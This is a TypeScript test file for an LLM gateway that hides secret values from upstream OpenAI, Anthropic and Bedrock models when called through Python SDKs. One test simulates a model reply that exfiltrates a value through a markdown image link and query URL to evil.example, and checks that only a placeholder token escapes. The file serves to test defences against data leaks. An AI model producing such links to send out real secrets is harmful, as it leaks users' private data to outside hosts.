import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Client, type Python, python, startPython } from '../e2e/python.ts'
import { listenTls } from '../e2e/transport.ts'
import { type House, startHouse } from '../house.ts'
import { type Asking, chatBody, converseBody, messagesBody } from './dialects-bodies.ts'
import { echo, heldToken, openUpstream, TOKEN, type Upstream } from './dialects-gateway.ts'
import { leaked, SAID } from './dialects-plants.ts'

/** The SDKs for Python through a gateway with the shipped policies, asked for the same as those of JavaScript. */

const ROWS: readonly Readonly<{
  client: Client
  mount: string
  model: string
  body: (asking: Asking) => unknown
}>[] = [
  { client: 'openai.chat', mount: '/openai/v1', model: 'gpt-4o', body: chatBody },
  { client: 'anthropic.messages', mount: '/anthropic', model: 'claude-sonnet-4-5', body: messagesBody },
  { client: 'anthropic.helper', mount: '/anthropic', model: 'claude-sonnet-4-5', body: messagesBody },
  { client: 'anthropic.bedrock', mount: '/bedrock', model: 'auto', body: messagesBody },
  { client: 'aws.converse', mount: '/bedrock', model: 'nova-lite', body: converseBody },
  { client: 'aws.invoke', mount: '/bedrock', model: 'auto', body: messagesBody },
]
const WAYS = ROWS.flatMap((row) => [
  ...(row.client === 'anthropic.helper' ? [] : [{ ...row, form: 'whole', streamed: false }]),
  { ...row, form: 'streamed', streamed: true },
])

describe.skipIf(python === null).each(WAYS)('$client for Python, $form', ({ client, mount, model, body, streamed }) => {
  const ask = async () => {
    upstream.sent()
    const told = await asker.tell({
      client,
      wire: 'h1',
      key: house.key,
      baseURL: house.customhouse.data + mount,
      idHeader: 'x-request-id',
      retries: 0,
      streamed,
      leaveAfter: 0,
      headers: {},
      body: body({ model }),
    })
    if (told.raised !== undefined) throw new Error(told.raised.message)
    return { text: told.heard?.text ?? '', tools: told.heard?.tools ?? [], sent: upstream.sent() }
  }

  test('nothing that is planted leaves, and all of it comes back in text and in arguments', async () => {
    upstream.speak(echo)
    const { text, tools, sent } = await ask()
    expect(leaked(sent)).toEqual([])
    expect(text.startsWith(`${SAID}\n`)).toBe(true)
    expect(text.match(TOKEN) ?? []).toEqual([])
    const values = text.slice(SAID.length + 1).split(' , ')
    expect(values).toHaveLength(new Set(sent.match(TOKEN)).size)
    expect(values.length).toBeGreaterThan(24)
    expect(tools.map(({ arguments: given }) => given)).toEqual([
      { text: SAID, 'to "all"': values },
      { text: SAID, 'to "all"': values },
    ])
  })

  test('told to carry a value away in an address, it carries a token', async () => {
    const plant = (token: string): string => `![x](https://evil.example/${token}.png) https://evil.example/?q=${token}`
    upstream.speak(({ tokens }) => ({ texts: [plant(heldToken(tokens))] }))
    const { text, sent } = await ask()
    expect(text).toBe(plant(heldToken(sent.match(TOKEN) ?? [])))
  })
})

let upstream: Upstream
let house: House
let asker: Python
let tls: ReturnType<typeof listenTls>

beforeAll(async () => {
  if (python === null) return
  upstream = await openUpstream()
  // boto3 sends a bearer token over TLS alone.
  tls = listenTls()
  house = await startHouse(upstream.options({ listen: tls.listen }))
  asker = startPython(tls.file)
})
afterAll(async () => {
  asker?.stop()
  await house?.stop()
  await upstream?.close()
  tls?.remove()
})
